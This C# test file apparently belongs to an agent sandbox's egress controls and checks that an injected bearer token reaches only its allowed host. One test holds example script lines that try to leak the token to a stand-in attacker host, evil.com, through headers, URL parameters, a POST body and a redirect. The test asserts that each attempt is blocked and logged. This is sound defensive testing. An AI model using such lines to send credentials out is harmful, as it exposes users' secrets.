using AgentOS.Egress.Tests.Laboratory;
using AgentOS.Egress.Tests.Secrets;

namespace AgentOS.Egress.Tests.Calls;

/// <summary>Secrets in requests that the kernel makes: as in the sandbox's own.</summary>
public sealed class SecretCallTests(Internet internet)
{
    private static readonly string[] s_options = ["--allow", "ok.com", "--allow", "evil.com", "--secret", "TOKEN=vault:own@ok.com:bearer"];

    private const string Authorization = """
        token = os.environ["TOKEN"]
        own = {"Authorization": "Bearer " + token}

        """;

    [Fact]
    [Trait("Rule", "H7")]
    [Trait("Bypass", "N39")]
    public async Task A_key_reaches_its_host_and_comes_back_as_the_placeholder()
    {
        using EgressHost host = await SecretHost.MakeAsync(internet);
        Attempt attempt = await KernelScript.RunAsync(internet, host, s_options, Authorization + """
            answer = http("placed", "https://ok.com/headers", headers=own)
            print("same", ("Bearer " + token)[:20] in answer["body"])
            print("streamed", "".join(part.data for part in stream("https://ok.com/headers", headers=own)).replace("\n", "|"))
            http("sent-on", "https://ok.com/redirect/ok.com/headers", headers=own)
            """);
        attempt.DidNotPrint(SecretHost.Canary).Printed("placed 200", "same True", "streamed ", "sent-on 200").Recorded("echo", "ok.com");
        // The redirection led to clear text, where nothing is put in.
        Assert.Equal(2, attempt.Seen.Hits.Count(hit => hit.Contains($"Authorization: Bearer {SecretHost.Canary}", StringComparison.Ordinal)));
    }

    [Fact]
    [Trait("Rule", "H7")]
    [Trait("Bypass", "N40")]
    public async Task It_goes_nowhere_else()
    {
        using EgressHost host = await SecretHost.MakeAsync(internet);
        Attempt attempt = await KernelScript.RunAsync(internet, host, s_options, Authorization + """
            http("other", "https://evil.com/headers", headers=own)
            http("clear", "http://ok.com/headers", headers=own)
            http("url", "https://ok.com/headers?token=" + token)
            http("field", "https://ok.com/headers", headers={"X-Other": token})
            http("body", "https://ok.com/headers", method="POST", body="token=" + token)
            http("away", "https://ok.com/redirect/evil.com/headers", headers=own)
            """);
        Assert.Equal(6, attempt.Seen.Hits.Count(hit => hit.Contains(" headers ", StringComparison.Ordinal)));
        Assert.DoesNotContain(attempt.Seen.Hits, hit => hit.Contains(SecretHost.Canary, StringComparison.Ordinal));
        attempt.DidNotPrint(SecretHost.Canary);
        Assert.Equal(5, attempt.Events.Count(row => row.GetProperty("kind").GetString() == "sentinel-misuse"));
        Assert.All(attempt.Events.Where(row => row.GetProperty("kind").GetString() == "sentinel-misuse"), row => Assert.Equal("call", row.GetProperty("source").GetString()));
    }
}
